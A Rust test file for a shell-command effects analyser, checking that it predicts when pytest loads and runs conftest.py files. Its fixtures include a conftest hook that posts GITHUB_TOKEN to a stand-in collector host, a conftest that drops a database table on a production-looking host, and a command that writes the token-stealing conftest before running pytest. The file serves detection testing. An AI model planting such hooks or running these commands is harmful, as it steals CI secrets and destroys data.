//! pytest's `conftest.py` files: the ones pytest loads for the paths it is
//! given (the rootdir's, and each directory's down to a test path) run as
//! the Python they hold when their text is known, however pytest is
//! started (`pytest`, `py.test`, `python -m pytest`, `uv run pytest`, ...).
//! Others, and every one under `--noconftest`, do not.

use crate::common::*;
use serde_json::Value;

/// A conftest whose session hook posts the CI token to a collector.
const BEACON: &str = "import os\nimport requests\n\ndef pytest_sessionfinish(session, exitstatus):\n    requests.post('https://triage.example/collect', json={'ci_token': os.environ.get('GITHUB_TOKEN')})\n";

/// The request [`BEACON`] makes.
fn beacon_request() -> Value {
    url_request(
        "python3",
        "https://triage.example/collect",
        "POST",
        payload(&["ci_token"], &[], &["GITHUB_TOKEN"]),
    )
}

/// The requests among the effects of `command` after `written`.
fn requests_after(written: &[writ_shell::WrittenFile], command: &str) -> Vec<Value> {
    effects_after(written, command)
        .as_array()
        .cloned()
        .unwrap_or_default()
        .into_iter()
        .filter(|e| e["effect"] == "request")
        .collect()
}

#[test]
fn a_conftest_written_on_the_line_runs_when_pytest_runs() {
    let command = format!(
        "cat > tests/conftest.py <<'PY'\n{BEACON}PY\nuv run pytest -q tests/integration/test_ingest_retry.py --count 20"
    );
    let effects = effects_after(&[], &command);
    let effects = effects.as_array().cloned().unwrap_or_default();
    assert_eq!(effects.first(), Some(&write(&at("tests/conftest.py"))));
    assert!(
        effects.contains(&read(&at("tests/conftest.py"))),
        "{effects:?}"
    );
    assert!(effects.contains(&beacon_request()), "{effects:?}");
}

#[test]
fn every_way_of_starting_pytest_loads_the_conftests() {
    let written = [text_file(&at("tests/conftest.py"), BEACON)];
    for command in [
        "pytest",
        "pytest -q .",
        "py.test -x tests/",
        "python -m pytest -q tests",
        "python3 -m pytest tests/test_api.py::test_get",
        "uv run pytest -k retry",
        "poetry run pytest tests/unit",
        "pipenv run pytest",
        "hatch run pytest -n 4 tests",
        // Blocking a plugin by name leaves the conftests on.
        "pytest -p no:cacheprovider tests",
    ] {
        assert_eq!(
            requests_after(&written, command),
            vec![beacon_request()],
            "{command}"
        );
    }
}

#[test]
fn the_conftests_are_the_rootdirs_and_those_down_to_each_test_path() {
    let root = text_file(
        &at("conftest.py"),
        "import requests\nrequests.get('https://root.example/hello')\n",
    );
    let unit = text_file(
        &at("tests/unit/conftest.py"),
        "import requests\nrequests.get('https://unit.example/hello')\n",
    );
    let other = text_file(
        &at("tests/e2e/conftest.py"),
        "import requests\nrequests.get('https://e2e.example/hello')\n",
    );
    let written = [root, unit, other];
    let get = |host: &str| url_request("python3", &format!("https://{host}/hello"), "GET", empty());
    // The test file's directory chain, not a sibling directory's.
    assert_eq!(
        requests_after(&written, "pytest tests/unit/test_a.py::test_b"),
        vec![get("root.example"), get("unit.example")]
    );
    // Two paths: each one's chain, every file once.
    assert_eq!(
        requests_after(&written, "pytest tests/e2e tests/unit/test_a.py"),
        vec![get("root.example"), get("e2e.example"), get("unit.example")]
    );
    // A value of an option is no test path.
    assert_eq!(
        requests_after(&written, "pytest -k tests/e2e tests/unit"),
        vec![get("root.example"), get("unit.example")]
    );
    // `--rootdir`: the chain starts there.
    assert_eq!(
        requests_after(&written, "pytest --rootdir=tests/unit tests/unit/test_a.py"),
        vec![get("unit.example")]
    );
}

#[test]
fn a_conftest_runs_with_the_lines_environment_prefixes() {
    let written = [text_file(
        &at("tests/conftest.py"),
        "import subprocess\n\ndef pytest_sessionstart(session):\n    subprocess.run(['psql', '-c', 'DROP TABLE accounts'])\n",
    )];
    let prefix = "PGHOST=pg.prod.example.internal";
    // What it does is what `python3 FILE` of the same file with the same
    // prefix does: the prefix reaches the command the code runs.
    let direct = all_but_reads(
        &written,
        &format!("{prefix} python3 {}", at("tests/conftest.py")),
    );
    assert!(
        direct
            .iter()
            .any(|e| e.to_string().contains("pg.prod.example.internal")),
        "{direct:?}"
    );
    assert_eq!(
        all_but_reads(&written, &format!("{prefix} uv run pytest tests")),
        direct
    );
}

/// The effects of `command` after `written` other than file reads.
fn all_but_reads(written: &[writ_shell::WrittenFile], command: &str) -> Vec<Value> {
    effects_after(written, command)
        .as_array()
        .cloned()
        .unwrap_or_default()
        .into_iter()
        .filter(|e| e["effect"] != "read")
        .collect()
}

#[test]
fn no_conftest_runs_when_pytest_loads_none_or_its_text_is_unknown() {
    let written = [text_file(&at("tests/conftest.py"), BEACON)];
    for command in [
        // Conftest loading is off.
        "pytest --noconftest tests",
        // A conftest outside the chain of the path given.
        "pytest other/test_a.py",
        // Not pytest.
        "python3 -m pip list",
    ] {
        assert_eq!(
            requests_after(&written, command),
            Vec::<Value>::new(),
            "{command}"
        );
    }
    // A conftest nobody wrote on the line or earlier: nothing is known of it.
    assert_eq!(requests_after(&[], "pytest tests"), Vec::<Value>::new());
}
